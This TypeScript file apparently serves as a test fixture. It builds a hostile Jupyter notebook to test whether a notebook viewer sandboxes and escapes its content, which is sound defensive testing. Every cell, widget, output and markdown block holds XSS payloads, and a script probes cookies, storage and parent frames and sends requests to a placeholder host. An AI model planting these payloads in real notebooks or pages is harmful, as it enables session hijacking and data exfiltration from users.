/** A notebook whose every part tries to get out of the page that somebody downloaded of it. */

/** Says what each way out brought, and that it tried all of them. */
const tries = (web: string, file: string) => `<p class="told"></p><script>
const told = document.querySelector('.told');
const say = (what, got) => { told.textContent += what + ' ' + got + ';'; };
for (const [what, look] of [['parent', () => parent.document.title], ['top', () => top.location.href], ['storage', () => localStorage.length],
  ['cookie', () => document.cookie], ['sibling', () => parent.frames[0].document.body.innerText], ['opener', () => open('${web}/opened') && 'open']]) {
  try { say(what, 'GOT ' + look()); } catch (error) { say(what, error.name); }
}
try { top.location = '${web}/top'; } catch (error) { say('leave', error.name); }
setInterval(() => parent.postMessage(1e9, '*'), 50); parent.postMessage(NaN, '*'); parent.postMessage({ length: 1 }, '*');
for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href'], ['object', 'data'], ['video', 'src']]) {
  for (const address of ['${web}/' + tag, '${file}']) {
    const made = document.createElement(tag); made.rel = 'stylesheet'; made[name] = address; document.body.append(made);
  }
}
new Image().src = '${web}/pixel'; navigator.sendBeacon('${web}/beacon', 'x'); try { new WebSocket('${web}'.replace('http', 'ws')); } catch {}
try { new Worker('${web}/worker.js'); } catch {} try { new EventSource('${web}/events'); } catch {}
const form = document.body.appendChild(document.createElement('form')); form.action = '${web}/form'; try { form.submit(); } catch {}
Promise.allSettled([fetch('${web}/fetch'), fetch('${file}'), import('${web}/module.js')]).then((all) => {
  say('asked', all.map(({ status }) => status).join()); told.dataset.done = 'yes';
});
</script>`;

/** Markup that runs in the page itself where a text is not escaped. */
export const MARK =
  '</title></pre></style></script>"\'><img src=x onerror="parent.PWNED=1;PWNED=1"><script>PWNED=1</script>';

/** Widgets with markup in all that they show. */
const hostileWidgets = (web: string) => {
  const controls = (model_name: string, state: object) => ({
    model_name,
    model_module: '@jupyter-widgets/controls',
    state,
  });
  const html = `<script>parent.PWNED=1;fetch('${web}/html')</script>${MARK}`;
  return {
    tabs: controls('TabModel', {
      titles: [MARK],
      children: ['slider', 'bar', 'button', 'html', 'image'].map((id) => `IPY_MODEL_${id}`),
    }),
    slider: controls('IntSliderModel', { description: MARK, value: MARK }),
    bar: controls('FloatProgressModel', { description: MARK, value: MARK, max: '"><b>' }),
    button: controls('ButtonModel', { description: MARK }),
    html: controls('HTMLModel', { value: html }),
    image: {
      ...controls('ImageModel', { format: 'png" onerror="PWNED=1' }),
      buffers: [{ encoding: 'base64', path: ['value'], data: 'x" onerror="PWNED=1' }],
    },
  };
};

export const hostile = (web: string, file: string) => {
  const cell = (rest: object) => ({ metadata: {}, ...rest });
  const code = (id: string, ...data: object[]) =>
    cell({
      id,
      cell_type: 'code',
      source: MARK,
      execution_count: 1,
      outputs: data.map((one) =>
        'output_type' in one
          ? one
          : {
              output_type: 'display_data',
              data: one,
              metadata: { width: `1" onload="PWNED=1`, [MARK]: MARK },
            },
      ),
    });
  const markdown = (id: string, source: string, attachments = {}) =>
    cell({ id, cell_type: 'markdown', source, attachments });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="PWNED=1;parent.PWNED=1"><script>PWNED=1;parent.PWNED=1</script><image href="${web}/svg"/><foreignObject><iframe src="${file}"/></foreignObject></svg>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      title: MARK,
      widgets: {
        'application/vnd.jupyter.widget-state+json': {
          version_major: 2,
          version_minor: 0,
          state: {
            w: {
              model_name: 'AnyModel',
              model_module: 'anywidget',
              state: { _esm: `fetch('${web}/widget');parent.PWNED=1` },
            },
            ...hostileWidgets(web),
          },
        },
      },
    },
    cells: [
      code('calm', { 'text/html': '<b>calm</b>' }),
      code('ways', { 'text/html': tries(web, file) }),
      code(
        'leaves',
        { 'text/html': `<script>location = '${web}/left'</script>` },
        {
          'text/html': `<meta http-equiv="refresh" content="0;url=${web}/refreshed"><base href="${web}/base/"><img src="based.png">`,
        },
      ),
      code('styles', {
        'text/html': `<style>@import '${web}/import.css'; body { background: url(${web}/background) } @font-face { font-family: f; src: url(${web}/font) } p { font-family: f } :root { position: fixed; inset: 0 }</style><p style="position:fixed;inset:0;background:url(${web}/inline)">over all</p>`,
      }),
      code('script', {
        'application/javascript': `parent.PWNED=1;</script><script>parent.PWNED=1;fetch('${web}/javascript')`,
      }),
      code(
        'drawn',
        { 'image/svg+xml': svg },
        { 'image/png': `x" onerror="PWNED=1` },
        { 'text/plain': MARK },
        { 'application/json': { [MARK]: MARK } },
        { [MARK]: MARK },
      ),
      code(
        'printed',
        { output_type: 'stream', name: 'stdout', text: `\u001b[31;${MARK}m${MARK}` },
        {
          output_type: 'error',
          ename: MARK,
          evalue: MARK,
          traceback: [MARK, `\u001b]8;;javascript:PWNED=1\u0007go\u001b]8;;\u0007`],
        },
      ),
      code('figure', {
        'application/vnd.plotly.v1+json': {
          data: [
            { type: 'scatter', x: [1], y: [2], name: `</script><script>parent.PWNED=1</script>` },
          ],
          layout: {
            title: { text: `<a href="javascript:parent.PWNED=1">t</a>` },
            images: [
              { source: `${web}/plot.png`, xref: 'paper', yref: 'paper', sizex: 1, sizey: 1 },
            ],
          },
        },
      }),
      code(
        'widget',
        ...['w', 'tabs'].map((model_id) => ({
          'application/vnd.jupyter.widget-view+json': {
            version_major: 2,
            version_minor: 0,
            model_id,
          },
          'text/plain': MARK,
        })),
      ),
      markdown(
        'links',
        `[go](javascript:PWNED=1) [data](data:text/html,<script>PWNED=1</script>) [disk](${file}) ![p](${web}/picture.png) ![disk](${file}) ![a](attachment:a.png) <javascript:PWNED=1>`,
        { 'a.png': { 'image/png': `x"onerror="PWNED=1` } },
      ),
      markdown(
        'tags',
        `# ${MARK}\n\n<iframe src="${file}"></iframe><a href="javascript:parent.PWNED=1" id="pressed">press</a><form action="${web}/posted"><button>send</button></form>${MARK}`,
      ),
      markdown(
        'formula',
        `$\\href{javascript:PWNED=1}{x}$ $\\includegraphics{${web}/formula}$ $\\htmlData{x="y"}{\\class{"onload=PWNED=1}{x}}$ $\\def\\a{\\a\\a}\\a$ $\\rule{1e9em}{1e9em}$`,
      ),
      cell({ id: 'raw', cell_type: 'raw', source: MARK }),
    ],
  };
};
